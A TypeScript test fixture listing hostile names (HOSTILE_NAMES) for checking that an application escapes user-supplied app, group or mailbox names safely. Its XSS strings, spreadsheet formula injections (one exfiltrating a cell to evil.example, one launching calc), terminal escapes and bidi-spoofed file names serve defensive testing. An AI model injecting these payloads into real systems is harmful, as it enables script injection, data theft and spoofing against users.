const ESCAPE = String.fromCharCode(0x1b);
const BELL = String.fromCharCode(7);
const NUL = String.fromCharCode(0);

/** Names that an attacker, or an unlucky administrator, may give to an app, a group or a mailbox; by what is odd about them. */
export const HOSTILE_NAMES: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'image with a handler': '"><img src=x onerror=alert(1)>',
  'end of a style sheet': '</style></title><h1>gone</h1>',
  comment: '<!-- --> ]]> <![CDATA[',
  entity: '&lt;b&gt; &amp; &#60;',
  'formula with =': '=HYPERLINK("http://evil.example/?"&A1,"open")',
  'formula with +': "+1+cmd|' /C calc'!A0",
  'formula with -': '-2+3',
  'formula with @': '@SUM(1,1)',
  'tab and formula': '\t=1+1',
  'return and formula': '\r=1+1',
  'line breaks': 'first\r\nsecond\nthird\rfourth\u2028fifth\u2029sixth',
  'comma and quotes': 'a,"b",,c;d',
  'terminal escape': `${ESCAPE}[2J${ESCAPE}]0;owned${BELL}`,
  nul: `be${NUL}fore`,
  'bidirectional override': 'invoice\u202Efdp.exe',
  'bidirectional isolate': '\u2066admin\u2069\u200F',
  'zero width': 'ad\u200Bmin\uFEFF',
  'markdown link': '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
  'markdown table': 'a | b \\| c\n| --- |',
  'markdown heading': '# heading',
  'markdown emphasis': '**bold** _it_ `code` ``two`` ~~gone~~ $x$',
  'markdown list': '- item',
  'markdown numbers': '1. item',
  autolink: 'www.evil.example http://evil.example/ @everyone',
  prototype: '__proto__',
  constructor: 'constructor',
  'lone surrogate': 'half \ud83d smile',
  emoji: 'Team 👩‍👩‍👧 é',
  wide: '営業部メール',
  'only spaces': '   ',
  long: 'x'.repeat(5_000),
};
